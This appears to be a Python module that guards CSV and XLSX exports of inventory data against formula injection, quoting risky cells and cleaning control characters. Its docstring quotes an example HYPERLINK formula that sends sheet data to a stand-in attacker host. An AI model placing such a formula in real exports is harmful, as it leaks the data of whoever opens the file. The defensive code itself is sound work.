"""Cells bound for a spreadsheet: text from an inventory must never become a live formula.

Inventories come from suppliers, SBOMs and spreadsheets: untrusted text. A CSV or XLSX cell that
begins with ``=``, ``+``, ``-`` or ``@`` is evaluated as a formula when an officer opens the file
(``=HYPERLINK("http://attacker.example/?d="&A2,"click")`` leaks the sheet with one click), and a
leading TAB or CR moves the formula past some programs' check. Following OWASP's advice on CSV
injection, such a cell is written with a single quote in front: spreadsheet programs show the
text as typed, and a person reading the raw file still reads the whole value.

Every spreadsheet-bound cell the project writes goes through ``spreadsheet_cell``; CSV files are
written with ``spreadsheet_writer``, which applies it to every cell (a test keeps ``csv.writer``
from being used anywhere else).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Protocol

# What makes a spreadsheet program read a cell as a formula (OWASP: CSV injection). The full-width
# forms are included: some programs fold them to ASCII before parsing.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
QUOTE = "'"


def spreadsheet_cell(value: object) -> object:
    """``value`` made safe for a spreadsheet cell.

    Text that a spreadsheet would evaluate gets a leading single quote; other text, and numbers
    (a quantity stays a number a person can sum), pass unchanged. ``None`` is an empty cell.
    """
    if value is None:
        return ""
    if isinstance(value, str) and value[:1] in FORMULA_TRIGGERS:
        return QUOTE + value
    return value


class _Text(Protocol):
    def write(self, text: str, /) -> object: ...


class _Writer(Protocol):
    def writerow(self, row: Iterable[object], /) -> object: ...


class SpreadsheetWriter:
    """A ``csv.writer`` whose every cell passes through ``spreadsheet_cell``."""

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([spreadsheet_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def spreadsheet_writer(out: _Text, *, lineterminator: str = "\n") -> SpreadsheetWriter:
    """A CSV writer onto ``out`` for a file a person opens in a spreadsheet program."""
    return SpreadsheetWriter(csv.writer(out, lineterminator=lineterminator))


if TYPE_CHECKING:
    from openpyxl import Workbook


# Characters an XLSX file cannot hold (XML 1.0 forbids them; openpyxl refuses the cell with
# IllegalCharacterError and the whole workbook fails): C0 controls other than TAB, LF and CR.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
# Excel's limit for the text of one cell; longer text is cut, with a mark saying so.
XLSX_CELL_MAX = 32_767
_CUT = " [...]"


def workbook_cell(value: object) -> object:
    """``spreadsheet_cell`` for an XLSX cell: also replaces the control characters XML cannot
    hold with U+FFFD (one bad inventory cell must not cost the officer the whole file) and cuts
    text past Excel's cell limit, marked, rather than have Excel refuse to open the file."""
    value = spreadsheet_cell(value)
    if isinstance(value, str):
        value = _XML_ILLEGAL.sub("\ufffd", value)
        if len(value) > XLSX_CELL_MAX:
            value = value[: XLSX_CELL_MAX - len(_CUT)] + _CUT
    return value


def spreadsheet_workbook(sheets: Iterable[tuple[str, Iterable[Iterable[object]]]]) -> Workbook:
    """An XLSX workbook with one sheet per ``(title, rows)``, every cell passed through
    ``workbook_cell``; the caller may style it (widths, wrapping) but writes no cell itself."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.worksheets[0])
    for title, rows in sheets:
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append([workbook_cell(cell) for cell in row])
    return book


def tracking_sheet(
    title: str, header: Sequence[str], rows: Iterable[Sequence[object]], widths: Sequence[int]
) -> bytes:
    """One sheet as a person works in it, as XLSX bytes: a bold header row that stays in view
    (frozen panes), a filter on every column, column widths for the content. This is where
    remediation is tracked, so it must open ready to sort and filter.

    Written in openpyxl's write-only mode, row by row: a finding on each of 100,000 assets is
    100,000 rows, which the ordinary mode would hold as millions of cell objects. Every cell goes
    through ``workbook_cell``."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    sheet.freeze_panes = "A2"
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    bold = Font(bold=True)
    heading = []
    for name in header:
        cell = WriteOnlyCell(sheet, value=workbook_cell(name))
        cell.font = bold
        heading.append(cell)
    sheet.append(heading)
    count = 1
    for row in rows:
        sheet.append([workbook_cell(value) for value in row])
        count += 1
    sheet.auto_filter.ref = f"A1:{get_column_letter(max(len(header), 1))}{count}"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A header and rows as CSV text, every cell through ``spreadsheet_cell``."""
    out = io.StringIO()
    writer = spreadsheet_writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()
